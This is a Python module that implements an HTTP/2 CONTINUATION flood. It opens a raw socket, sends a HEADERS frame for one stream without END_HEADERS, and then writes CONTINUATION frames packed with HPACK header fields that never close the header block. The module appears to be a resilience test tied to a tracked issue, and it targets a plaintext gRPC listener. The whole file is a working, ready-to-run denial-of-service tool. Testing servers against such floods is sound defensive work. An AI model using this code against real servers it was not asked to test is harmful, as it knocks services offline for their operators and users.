"""An HTTP/2 CONTINUATION flood over a raw socket (issue 9 item 7).

The client sends the connection preface, an empty SETTINGS frame, a HEADERS frame for stream 1 without
END_HEADERS, and then CONTINUATION frames that never end the header block, each full of small HPACK literal
header fields (literal without indexing, new name). It never reads; it stops after ``total_bytes`` or when the
server closes the connection.
"""

from __future__ import annotations

import asyncio
import struct
from dataclasses import dataclass

FRAME_HEADERS = 0x1
FRAME_SETTINGS = 0x4
FRAME_CONTINUATION = 0x9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_FRAME_PAYLOAD = 16384  # the HTTP/2 default SETTINGS_MAX_FRAME_SIZE


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_integer(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """RFC 7541 §5.1 integer with a ``prefix_bits`` prefix; ``first`` holds the pattern bits above it."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_literal(name: bytes, value: bytes) -> bytes:
    """A literal header field without indexing, with a literal name (RFC 7541 §6.2.2), no Huffman coding."""
    return b"\x00" + hpack_integer(len(name), 7) + name + hpack_integer(len(value), 7) + value


@dataclass
class FloodResult:
    """What one flood connection achieved: bytes written, and whether the server closed the connection."""

    sent: int
    closed_by_server: bool


async def continuation_flood(host: str, port: int, total_bytes: int, value_bytes: int = 100) -> FloodResult:
    """Flood ``host:port`` with one never-ending header block of ``total_bytes`` on one connection.

    Args:
        host: server address.
        port: server port (plaintext HTTP/2, as a gRPC listener without TLS).
        total_bytes: bytes of CONTINUATION frames to send.
        value_bytes: length of each header value (each field is about ``value_bytes + 10`` bytes).
    """
    reader, writer = await asyncio.open_connection(host, port)
    first = b"\x83\x86" + hpack_literal(b":path", b"/flood.Flood/Flood") + hpack_literal(b":authority", b"kas")
    field = hpack_literal(b"x-flood", b"v" * value_bytes)
    block = frame(FRAME_CONTINUATION, 0, 1, field * (MAX_FRAME_PAYLOAD // len(field)))
    writer.write(PREFACE + frame(FRAME_SETTINGS, 0, 0, b"") + frame(FRAME_HEADERS, 0, 1, first))
    sent = 0
    try:
        while sent < total_bytes:
            if writer.transport.is_closing():
                return FloodResult(sent, True)
            writer.write(block)
            sent += len(block)
            if writer.transport.get_write_buffer_size() > 1 << 16:
                await asyncio.wait_for(writer.drain(), 60)
        await asyncio.wait_for(writer.drain(), 60)
        return FloodResult(sent, False)
    except ConnectionError:
        return FloodResult(sent, True)
    finally:
        writer.close()
        reader.feed_eof()
